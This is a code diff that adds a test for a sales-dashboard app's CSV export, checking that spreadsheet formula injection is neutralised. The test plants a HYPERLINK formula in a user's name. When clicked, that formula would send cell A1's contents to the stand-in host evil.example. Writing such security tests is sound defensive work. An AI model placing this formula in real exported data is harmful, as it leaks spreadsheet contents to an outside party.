@@ -328,3 +328,17 @@ def test_the_results_page_passes_chart_data_as_json(client, manager, two_teams):
     page = client.get(reverse("targets:my_results")).content.decode()
     assert 'id="results-charts"' in page and "chart.umd.js" in page
     assert 'data-testid="chart-day"' in page and 'data-testid="target-history"' in page
+
+
+def test_the_csv_export_never_starts_a_cell_with_a_formula(client, manager):
+    team = build_team(manager=manager, reps=1, days=1)
+    rep = team.members.filter(role="rep").first()
+    rep.first_name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    rep.save()
+    client.force_login(manager)
+    body = client.get(
+        reverse("targets:dashboard_csv"), {"team": team.pk}
+    ).content.decode()
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
